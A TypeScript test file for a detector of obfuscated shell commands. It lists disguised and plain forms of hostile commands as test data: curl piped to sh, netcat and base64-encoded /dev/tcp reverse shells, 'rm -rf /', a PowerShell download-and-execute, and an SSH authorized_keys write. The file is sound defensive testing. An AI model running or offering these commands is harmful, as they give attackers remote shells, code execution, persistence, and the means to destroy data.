// biome-ignore-all lint/suspicious/noTemplateCurlyInString: that is how shells write parameters
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { occurrences } from '../../../lib/detector/occurrence.ts';
import { OBFUSCATED_RULES } from '../../../lib/detector/rules/obfuscated.ts';

const obfuscated = suite('obfuscated commands');

/** Families found in text around which more stands, by way of keywords, as the gate does. */
function families(text: string): string[] {
  const lowerCase = text.toLowerCase();
  const found = new Set<string>();
  for (const rule of OBFUSCATED_RULES) {
    for (const keyword of rule.keywords) {
      for (let at = lowerCase.indexOf(keyword); at >= 0; at = lowerCase.indexOf(keyword, at + 1)) {
        for (const _ of occurrences(rule, text, Math.max(0, at - rule.reach.before), at + 1))
          found.add(rule.pattern);
      }
    }
  }
  return [...found];
}

obfuscated('are judged by what a shell would run', () => {
  for (const [command, family] of [
    ['$(printf "\\x63")url http://x.example/a | sh', 'pipe_to_shell'],
    ['a=cu;b=rl;$a$b http://x.example/a|${SHELL}', 'pipe_to_shell'],
    ['{nc,-e,/bin/sh,192.0.2.1,99}', 'reverse_shell'],
    ['echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvOTkgMD4mMQ== | base64 -d | bash', 'reverse_shell'],
    ["$'\\162\\155' -rf /", 'destructive_rm'],
    ['echo k >> ~/.ssh/$(echo authorized)_keys', 'ssh_authorized_keys'],
    ["&('i'+'ex') (iwr http://x.example/a)", 'pipe_to_shell'],
    ['c^url http://x.example/a ^| sh', 'pipe_to_shell'],
  ] as const) {
    assert.equal(families(command), [family], command);
  }
});

obfuscated('are nothing where a command is plain, or harmless however it is written', () => {
  for (const command of [
    'curl http://x.example/a | sh',
    'rm -rf /',
    'l""s -la',
    'echo aGVsbG8= | base64 -d | sh',
    'a=cu; b=t; $a$b -d: -f1 x',
    'eval "$(ssh-agent -s)"',
    'IFS=,; echo $HOME',
  ]) {
    assert.equal(families(command), [], command);
  }
});

obfuscated('are found in prose, in pages and in JSON', () => {
  const command = 'a=cu; b=rl; $a$b http://x.example/a | sh';
  const around = 'It is easy, and nobody has to read the manual of it. '.repeat(20);
  for (const text of [
    `${around}\n\n    ${command}\n\n${around}`,
    `<p>${around}</p><pre>${command}</pre>${around}`,
    `{"text":"${around}","command":"${command}","cwd":"/tmp","more":"${around}"}`,
  ]) {
    assert.equal(families(text), ['pipe_to_shell'], text);
  }
});

obfuscated('are not seen in everyday scripts and pages', () => {
  for (const text of [
    'VERSION=1.2; curl -fsSL "https://x.example/v${VERSION}/i.sh" | sh -s -- --yes',
    'export A=b\nfor f in *.c; do echo "$f" | sh -c "cat"; done',
    "const a = 'i'+'d'; eval(\"1+1\"); s.replace(/x/g, '').split('|sh')",
    'eval "$(pyenv init -)"; eval `dircolors`; eval "$(brew shellenv)"',
    'docker run x sh -c "echo $(printf %s a) | sh"',
    "It’s said that `echo hi | sh` prints hi; don't do it, it's bad.",
  ]) {
    assert.equal(families(text), [], text);
  }
});

obfuscated.run();
